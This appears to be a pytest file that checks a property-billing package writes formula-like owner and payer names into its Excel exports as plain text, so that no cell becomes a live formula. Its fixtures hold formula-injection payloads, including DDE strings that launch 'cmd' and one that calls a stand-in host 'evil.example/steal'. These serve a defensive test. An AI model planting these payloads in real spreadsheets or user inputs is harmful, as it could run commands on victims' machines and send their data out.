"""Exports are text: names that look like formulas are written as text into every workbook, and read back.

Owners and payers called ``=A1+1``, ``=cmd|' /C calc'!A0``, ``@A1:A9…`` or ``=A1`` (the names a roster takes:
a call such as ``=HYPERLINK(…)`` or ``@SUM(…)``, with its brackets, is refused as a name) go into the owners export, the fee register, the daily report, the 送达签收表 and the monthly report;
every one of those cells must be a string (never a live formula) and the export must import back
exactly.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from recordkit.billing.receipts import PaymentRequest, pay_many
from recordkit.billing.registers import write_daily, write_register
from recordkit.billing.rules import add_rule
from recordkit.core.sheets import cells_as_text, save_atomically
from recordkit.core.workspace import Workspace, open_workspace
from recordkit.documents.notices import make_notices, select_recipients
from recordkit.ledger.db import Ledger, open_ledger
from recordkit.owners.roster import export_owners, import_owners, list_units
from recordkit.reports import monthly_report
from tests.conftest import OWNER_HEADERS
from tests.fees_fixtures import CASHIER, RECEIPTS, bill_months

DAY = dt.date(2026, 11, 23)
# Names the roster takes (a letter, no bracket: a call such as =HYPERLINK(…) is refused as a name by the import
# itself, and the writer's quoting of it is checked on its own below): a link by DDE, a range by @.
LINK = "=cmd|' /C start http://evil.example/steal'!A1"
COMMAND = "=cmd|' /C calc'!A0"
AT_SUM = "@A1:A9*cmd|' /C calc'!A0"
CELL = "=A1"
PAYER = "=A1+1"
HOSTILE_OWNERS = {"1-1-101": CELL, "1-1-102": LINK, "3-2-1201": COMMAND, "3-2-1202": AT_SUM}

ROWS: list[list[Any]] = [
    ["1", "1", "101", 89.35, CELL, "13812345678", "110101199003071233", dt.date(2020, 5, 1), "已入住"],
    ["1", "1", "102", 118.62, LINK, "13987654321", "310104198506120027", None, "已入住"],
    ["3", "2", "1201", 143.8, COMMAND, "13700001111", None, dt.date(2019, 10, 1), "已入住"],
    ["3", "2", "1202", 143.8, AT_SUM, "13600002222", None, None, "已入住"],
]


def _roster(path: Path) -> Path:
    """The owners sheet as a clerk would have it, the hostile names typed as text."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(OWNER_HEADERS))
    for row in ROWS:
        sheet.append(row)
    return save_atomically(workbook, path)


@pytest.fixture
def hostile(workspace: Workspace, ledger_url: str, tmp_path: Path) -> Iterator[tuple[Workspace, Ledger]]:
    ws = open_workspace(workspace.root, environ={"RECORDKIT_DATABASE_URL": ledger_url})
    ledger = open_ledger(ws.database_url)
    import_owners(ledger, _roster(tmp_path / "名册.xlsx"), CASHIER)
    add_rule(ledger, CASHIER, "物业服务费", "area", "2.35", "2025-01", vacant_percent=70)
    bill_months(ledger, "2026-10", "2026-11")
    pay_many(
        ledger,
        RECEIPTS,
        CASHIER,
        [
            PaymentRequest("1-1-101", 30000, "微信", payer=PAYER, paid_on=DAY),
            PaymentRequest("3-2-1201", 10000, "现金", payer="-B2+3", paid_on=DAY),
        ],
    )
    yield ws, ledger
    ledger.close()


def _cells(path: Path) -> list[Any]:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _texts(path: Path) -> set[str]:
    """Every string in the workbook; fails on any live formula."""
    cells = _cells(path)
    formulas = [f"{cell.coordinate}={cell.value}" for cell in cells if cell.data_type == "f"]
    assert formulas == []
    return {cell.value for cell in cells if isinstance(cell.value, str)}


def test_the_helper_stores_formula_like_text_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    values = ["=1+1", "+86 138", "-5", "@SUM(A1)", "\t制表", "\r回车", "张伟", "3-2-1201", 12]
    sheet.append(values)
    assert cells_as_text(workbook) == 6
    assert [c.data_type for c in sheet[1]] == ["s"] * 8 + ["n"]
    assert [bool(c.quotePrefix) for c in sheet[1]] == [True] * 6 + [False] * 3


def test_owners_export_keeps_formula_names_as_text_and_imports_back_exactly(
    hostile: tuple[Workspace, Ledger], tmp_path: Path
) -> None:
    _ws, ledger = hostile
    before = {str(v.code): v.to_dict(show_private=True) for v in list_units(ledger)}
    assert {code: view["owner"] for code, view in before.items()} == HOSTILE_OWNERS

    exported = tmp_path / "导出.xlsx"
    export_owners(ledger, exported, CASHIER, show_private=True)
    assert set(HOSTILE_OWNERS.values()) <= _texts(exported)
    summary = import_owners(ledger, exported, CASHIER)
    assert (summary.units_unchanged, summary.units_updated, summary.owners_updated) == (4, 0, 0)
    assert {str(v.code): v.to_dict(show_private=True) for v in list_units(ledger)} == before


def test_registers_and_daily_report_write_names_as_text(hostile: tuple[Workspace, Ledger], tmp_path: Path) -> None:
    _ws, ledger = hostile
    write_register(ledger, "2026-11", tmp_path / "台账.xlsx", estate="测试小区")
    assert set(HOSTILE_OWNERS.values()) <= _texts(tmp_path / "台账.xlsx")
    write_daily(ledger, DAY, tmp_path / "日结.xlsx", estate="测试小区")
    assert {PAYER, "-B2+3"} <= _texts(tmp_path / "日结.xlsx")


def test_sign_off_sheet_writes_names_as_text(hostile: tuple[Workspace, Ledger]) -> None:
    ws, ledger = hostile
    recipients = select_recipients(ledger, everyone=True)
    values = {"停水时间": "12月5日8:00", "恢复时间": "12月5日18:00", "停水范围": "全小区", "停水原因": "维修"}
    batch = make_notices(ws, ledger, "停水通知", recipients, values, CASHIER, scope="全体", today=DAY)
    assert batch.sign_sheet is not None
    assert set(HOSTILE_OWNERS.values()) <= _texts(batch.sign_sheet.path)


def test_monthly_report_has_no_live_formula(hostile: tuple[Workspace, Ledger], tmp_path: Path) -> None:
    ws, ledger = hostile
    report = monthly_report(ws, ledger, "2026-11", CASHIER, tmp_path / "out", today=DAY)
    texts = _texts(report.workbook)
    # The report names owners in arrears: as text, exactly as recorded.
    assert texts & set(HOSTILE_OWNERS.values())
